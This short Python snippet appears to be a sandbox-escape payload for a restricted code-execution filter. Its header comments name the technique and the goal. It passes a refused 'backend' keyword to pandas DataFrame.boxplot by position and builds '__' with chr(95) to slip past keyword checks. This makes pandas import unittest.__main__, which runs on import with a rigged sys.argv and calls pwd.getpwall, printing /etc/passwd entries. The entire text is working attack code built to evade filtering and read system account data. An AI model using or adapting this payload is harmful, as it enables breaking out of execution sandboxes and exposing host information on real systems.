# source: pandas DataFrame.boxplot (backend 10th positional) + CPython Lib/unittest/__main__.py + unittest loader
# family: refused keyword by position + sys.argv replaced by a tuple target + stdlib module that runs on import
# goal: unittest calls pwd.getpwall(): /etc/passwd entries printed
import sys
import pandas as pd
sys.argv, n = ["strategy", "pwd.getpwall"], 1
x = [chr(95) * 2]
df = pd.DataFrame({"a": [1.0, 2.0]})
df.boxplot(None, None, None, None, 0, True, None, None, None, "unittest." + x[0] + "main" + x[0])
